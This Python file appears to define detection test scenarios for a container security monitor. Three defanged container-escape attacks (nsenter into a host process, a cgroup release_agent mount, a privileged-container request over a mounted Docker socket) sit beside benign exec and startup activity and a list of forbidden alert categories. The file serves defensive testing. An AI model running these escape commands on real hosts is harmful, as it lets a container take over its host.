"""Containers: what gets out of them, and what honest people do with them."""

from __future__ import annotations

import socket
import threading

from proving import bundles
from proving.scenario import Must, Repeat, attack, honest
from proving.world import ScenarioError, World

NOT = ("port-scan", "lateral-movement", "cryptomining", "beaconing", "data-exfiltration")
MAY = ("unexpected-process", "baseline-deviation", "privilege-escalation")
TOOLS = ("runc",)
SERVER = [("/srv/models", "/models"), ("/srv/venv", "/opt")]
"""What a model server's container is given."""


@attack(
    "escape-nsenter",
    "a container that sees the host's processes enters the mount namespace of one of them and runs a program there",
    must=(Must("container-escape", "container:", within=2.0),),
    may=MAY,
    must_not=NOT,
    tools=(*TOOLS, "nsenter"),
)
def nsenter(world: World) -> None:
    outside = world.start("sleep", "60")
    world.file("/srv/outside", "")
    container = bundles.start(world, "sleep", "60", privileged=True, host_pid=True)
    try:
        world.sleep(0.5)
        world.mark()
        enter = f"nsenter -t {outside.pid} -m sh -c 'test -e /srv/outside && echo out'"
        said = container.execute("sh", "-c", f"id; sleep 0.5; {enter}; sleep 0.5")
        if "out" not in said:
            raise ScenarioError(said)
        world.sleep(0.5)
    finally:
        container.end()
        outside.stop()


@attack(
    "escape-release-agent",
    "a container mounts a cgroup hierarchy and names the program that the kernel runs on the host when a group empties",
    must=(Must("container-escape", "container:", within=2.0),),
    may=MAY,
    must_not=NOT,
    tools=TOOLS,
)
def release_agent(world: World) -> None:
    """A hierarchy of its own without a controller; the notification is never switched on, and it goes when it is unmounted."""
    container = bundles.start(world, "sleep", "60", privileged=True)
    try:
        world.sleep(0.5)
        world.mark()
        script = (
            "sleep 0.3; mkdir /tmp/c; mount -t cgroup -o none,name=lwrange cgroup /tmp/c && "
            "echo /bin/true > /tmp/c/release_agent; "
            "cat /tmp/c/release_agent; umount /tmp/c"
        )
        said = container.execute("sh", "-c", script)
        if "/bin/true" not in said:
            raise ScenarioError(said)
        world.sleep(0.5)
    finally:
        container.end()


@attack(
    "escape-engine-socket",
    "a container was given the engine's socket, and a download tool asks the engine for a privileged container",
    must=(Must("container-escape", "container:", "docker.sock", within=1.0),),
    may=MAY,
    must_not=NOT,
    tools=(*TOOLS, "curl"),
)
def engine_socket(world: World) -> None:
    """The engine behind the socket is ours, and only says that it made one."""
    (world.path("/srv") / "run").mkdir()
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(str(world.path("/srv/run/docker.sock")))
    listener.listen(8)
    threading.Thread(target=_engine, args=(listener,), daemon=True).start()
    container = bundles.start(world, "sleep", "60", binds=[("/srv/run", "/var/run")])
    try:
        world.sleep(0.5)
        world.mark()
        said = container.execute(
            "curl", "-sS", "--unix-socket", "/var/run/docker.sock", "-d", '{"HostConfig": {"Privileged": true}}',
            "-H", "Content-Type: application/json", "http://d/v1.43/containers/create",
        )  # fmt: skip
        if "Id" not in said:
            raise ScenarioError(said)
        world.sleep(0.5)
    finally:
        container.end()
        listener.close()


def _engine(listener: socket.socket) -> None:
    body = b'{"Id": "e90e34656806", "Warnings": []}'
    while True:
        try:
            connection, _ = listener.accept()
        except OSError:  # closed: the scenario is over
            return
        with connection:
            connection.recv(65536)
            connection.sendall(
                b"HTTP/1.1 201 Created\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s"
                % (len(body), body)
            )


@honest(
    "container-start",
    "a container starts, serves for a while and is stopped",
    repeats={"life": Repeat(60.0, 0.3)},
    tools=TOOLS,
)
def container_start(world: World) -> None:
    with world.loop("life"):
        container = bundles.start(world, "sh", "-c", "mkdir -p /tmp/cache; sleep 2; echo over")
        world.wait(lambda: "over" in container.said(), "the container goes on")
        container.end()


@honest(
    "container-exec",
    "somebody looks into a running container: `docker exec` with a shell, ls, ps, and a look at its log",
    repeats={"look": Repeat(90.0, 0.5)},
    tools=TOOLS,
)
def container_exec(world: World) -> None:
    container = bundles.start(world, "sh", "-c", "while :; do echo tick; sleep 0.5; done")
    try:
        world.sleep(0.5)
        with world.loop("look"):
            container.execute("sh", "-c", "ls -la /; cat /etc/passwd; ls /proc | head -5; df / | tail -1")
            container.execute("ls", "/srv")
    finally:
        container.end()


@honest(
    "exec-into-model-server",
    "somebody looks into a model server's container: `docker exec` with a shell, its log, its model's folder",
    repeats={"look": Repeat(120.0, 0.5)},
    tools=TOOLS,
)
def exec_into_server(world: World) -> None:
    world.file("/srv/models/chat/config.json", "{}")
    world.file("/srv/venv/vllm", "import sys, time\nprint('serving', flush=True)\ntime.sleep(30)\n")
    container = bundles.start(world, "python3", "/opt/vllm", "serve", "/models/chat", binds=SERVER)
    try:
        world.wait(lambda: "serving" in container.said(), "the server does not start", 20)
        with world.loop("look"):
            container.execute(
                "sh", "-c", "ls -la /models/chat; cat /models/chat/config.json; ps aux | head -3; df -h / | tail -1"
            )
            container.execute("bash", "-c", "id; env | head -3")
    finally:
        container.end()
